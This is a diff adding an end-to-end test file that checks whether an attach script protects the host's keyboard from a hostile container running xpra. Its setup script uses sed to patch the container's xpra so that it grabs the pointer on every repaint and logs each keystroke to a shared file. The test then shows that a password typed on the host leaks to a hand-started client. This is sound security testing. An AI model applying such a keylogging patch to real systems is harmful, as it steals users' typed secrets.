@@ -1,0 +1,123 @@
+// A container that has replaced its own xpra: it grabs the host's keyboard through xpra's client, and writes down what comes.
+// The attack is shown to work against a client that somebody starts by hand, and not against attach.ts.
+
+import { assert, assertEquals, assertStringIncludes } from "@std/assert";
+import { join } from "@std/path";
+import { startProcess } from "../../lib/base/process.ts";
+import { needed, testOnOneEngine } from "./sessions.ts";
+import {
+  type EngineName,
+  eventually,
+  inContainer,
+  makeContainer,
+  mountsRoot,
+  removeContainer,
+  script,
+  sh,
+  startScript,
+  windowWith,
+} from "./world.ts";
+
+const nameOn = (engine: EngineName): string => `e2e-evil-${engine}`;
+
+/** What the user types into a terminal of the host's. */
+const password = "hunter22";
+
+/** Makes the container's xpra hostile, as root: it asks for the keyboard at each repaint, and notes each key. */
+const replaceXpra = `
+cd "$(python3 -c 'import os, xpra; print(os.path.dirname(xpra.__file__))')"
+sed -i '/^    def damage(self, wid/a\\        self.send("pointer-grab", wid)' server/source/window.py
+sed -i '/^        pressed = packet.get_bool(3)/a\\        open("/home/ubuntu/share/keys", "a").write(keyname + (" " if pressed else "-up "))' \\
+  server/subsystem/keyboard.py
+grep -q pointer-grab server/source/window.py
+grep -q share/keys server/subsystem/keyboard.py
+`;
+
+/** The keys that the container has noted since it was last asked. */
+async function notedKeys(engine: EngineName): Promise<string> {
+  return await inContainer(engine, nameOn(engine), "cat share/keys 2>/dev/null || true; rm -f share/keys");
+}
+
+/** Types the password into a terminal of the host's own, while `show` shows the container's window. */
+async function typeBeside(show: () => Promise<void>): Promise<void> {
+  const terminal = startProcess(["xterm", "-T", "bank", "-e", "sh", "-c", "read -r line; sleep 600"]);
+  try {
+    const bank = await windowWith("^bank$");
+    await show();
+    await sh(["xdotool", "windowactivate", "--sync", bank]);
+    // xclock repaints each second, and grabs then.
+    await new Promise((resolve) => setTimeout(resolve, 2_500));
+    await sh(["xdotool", "type", "--delay", "40", password]);
+    await new Promise((resolve) => setTimeout(resolve, 1_000));
+  } finally {
+    terminal.kill("SIGTERM");
+    await terminal.ended;
+  }
+}
+
+testOnOneEngine("hostile: a container with an xpra of its own is made", needed, async (engine) => {
+  await makeContainer(engine, nameOn(engine));
+  await sh([engine, "exec", nameOn(engine), "--", "/bin/sh", "-ec", replaceXpra]);
+  const started = await script("attach", engine, [
+    "--preset=isolated",
+    "--detached",
+    "--session=evil",
+    nameOn(engine),
+    "xclock -update 1",
+  ]);
+  assertEquals(started.code, 0, started.stderr);
+});
+
+testOnOneEngine(
+  "hostile: an xpra that grabs the keyboard reads what is typed elsewhere, without the guard",
+  needed,
+  async (engine) => {
+    const socket = join(mountsRoot, nameOn(engine), "xpra", "evil");
+    const closed = [
+      "--clipboard=no",
+      "--audio=no",
+      "--notifications=no",
+      "--mmap=no",
+      "--webcam=no",
+      "--splash=no",
+      "--opengl=no",
+    ];
+    const client = startProcess(["xpra", "attach", `socket:${socket}`, "--title=@title@ by hand", ...closed], {
+      output: { line: () => {} },
+    });
+    try {
+      await typeBeside(async () => void await windowWith("xclock by hand"));
+      const keys = await notedKeys(engine);
+      assertStringIncludes(keys.replaceAll(/\S+-up /g, "").replaceAll(" ", ""), password, keys);
+    } finally {
+      client.kill("SIGTERM");
+      await client.ended;
+    }
+  },
+);
+
+testOnOneEngine(
+  "hostile: an xpra that grabs the keyboard gets no key through attach.ts, and is told of",
+  needed,
+  async (engine) => {
+    const attach = startScript("attach", engine, ["--preset=isolated", "--session=evil", nameOn(engine)]);
+    try {
+      let window = "";
+      await typeBeside(async () => void (window = await windowWith(`\\[${nameOn(engine)}\\] xclock`)));
+      assertEquals(await notedKeys(engine), "");
+      // A key that is typed into the container's own window is the container's.
+      await sh(["xdotool", "windowactivate", "--sync", window, "type", "x"]);
+      await eventually("a key of the container's own", async () => (await notedKeys(engine)).includes("x"));
+    } finally {
+      attach.kill("SIGINT");
+      const { stderr } = await attach.ended;
+      assertStringIncludes(stderr, 'The container sends "pointer-grab", which is dropped');
+      assert(!stderr.includes("\x1b"));
+    }
+  },
+);
+
+testOnOneEngine("hostile: the container with an xpra of its own is removed", needed, async (engine) => {
+  await script("attach", engine, ["--stop", nameOn(engine), "--all"]);
+  await removeContainer(engine, nameOn(engine));
+});
